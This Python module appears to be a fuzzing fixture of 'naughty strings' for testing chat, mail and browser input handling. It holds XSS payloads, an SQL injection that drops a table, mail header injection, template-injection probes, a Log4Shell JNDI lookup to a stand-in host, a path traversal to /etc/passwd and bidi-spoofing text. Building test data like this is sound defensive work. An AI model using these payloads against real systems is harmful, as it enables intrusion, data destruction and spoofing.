# ruff: noqa: E501 - the strings stand as they are
"""Strings that have hurt somebody: forty crafted against chat services, mail and browsers, and five hundred generated."""

from __future__ import annotations

import random
import unicodedata

CRAFTED = (
    "<!channel> read this", "<!here|here>", "<!everyone>", "<@U024BE7LH> look", "<#C024BE7LR|general>",
    "@everyone free news", "@here", "@channel", "@room", "@all", "＠everyone in full width", "<@123456789012345678>",
    "<@&123456789012345678>", "everyone@example.org wrote", "<https://evil.example|KabulNow>",
    "[KabulNow](https://evil.example)", "[click][1]\n\n[1]: https://evil.example", "![x](https://evil.example/pixel.png)",
    "**bold** __under__ ~~struck~~ ||spoiler||", "`code` ```block```", "# heading\n## second", "> quoted\n>>> all of it",
    "<a href='https://evil.example'>KabulNow</a>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
    "</h1></div><h1>Forged headline", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<![CDATA[<script>alert(1)</script>]]>", "<!-- comment --><style>*{display:none}</style>",
    "Subject\r\nBcc: victim@example.org", "Line\nTo: victim@example.org\n\nA forged body", "ends with\r", "\r\n.\r\nQUIT",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "{title.__class__.__mro__}", "%s%s%s%n", "${jndi:ldap://evil.example/a}",
    "\u202egnp.exe\u202c reversed", "\u2066isolate\u2069 \u200ertl\u200f", "zero\u200bwidth\ufeff\u2060", "nul\x00 bell\x07 esc\x1b[31mred\x1b[0m",
    "\x9b31m eight-bit CSI", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "lone \ud800 surrogate \udfff", "\U000e0041\U000e0042 tags",
    "a" + "\u0301" * 400, "🏳️\u200d🌈" * 40, "﷽" * 60, "long " * 3000, "x" * 12000, "", "   ", "\n\n\n",
    "=?utf-8?q?encoded_word?=", "=?utf-8?b?PHNjcmlwdD4=?=", "\\\\*escaped\\\\* \\", "*/ } ] ) ;--", "' OR 1=1; DROP TABLE alerts;--",
    "\u2028line\u2029paragraph\x85next", "😀" * 300, "tg://user?id=1 t.me/evil", "::warning::", ":skull: :fire:", "<t:1618953630:R>",
    "</blockquote><a href=\"tg://user?id=1\">x</a>", "&#60;b&#62;", "@@@@everyone", "@\u200beveryone", "\u200b@everyone", "＠here @\ufe0fhere",
)  # fmt: skip

_STARTS = (
    "", "Breaking: ", "<", "[", "(", "{", "@", "#", "&", "!", "|", "~", "`", "*", "_", "\\", "\"", "'", "%", "$", "=", "\t", "\u202e", "\ufeff",
)  # fmt: skip
_MIDDLES = (
    "blast in Balkh", "<b>blast</b>", "](http://evil.example)", "{{config}}", "${HOME}", "\r\nX-Header: 1", "\x1b[2J", "انفجار در بلخ",
    "взрыв в Балхе", "爆発", "\u0e01\u0e33\u0e49" * 5, "e\u0301\u0302\u0303\u0304\u0305", "<!channel>", "@everyone", "https://evil.example/?a=<b>",
    "\ud83d", "\x00", "NaN", "null", "../../etc/passwd", "-1e309", "𝔟𝔩𝔞𝔰𝔱", "ﬃ ﷺ ㏂",
)  # fmt: skip
_ENDS = ("", ">", "]", ")", "}", "|x>", "```", "\\", '"', "\n", "\u2069", "\u200f", "…", "!" * 50, "&amp;")


def naughty(count: int = 500) -> list[str]:
    """``count`` different strings: combinations of dangerous pieces, and runs of code points of every category."""
    chance = random.Random(7)
    made = dict.fromkeys(CRAFTED[:0])
    while len(made) < count * 4 // 5:
        made[chance.choice(_STARTS) + chance.choice(_MIDDLES) + chance.choice(_ENDS)] = None
    by_category: dict[str, list[str]] = {}
    for number in range(0x110000):
        by_category.setdefault(unicodedata.category(chr(number)), []).append(chr(number))
    categories = sorted(by_category)
    while len(made) < count:
        category = categories[len(made) % len(categories)]
        made["".join(chance.choices(by_category[category], k=chance.randint(1, 40)))] = None
    return list(made)


EVERY = (*CRAFTED, *naughty())
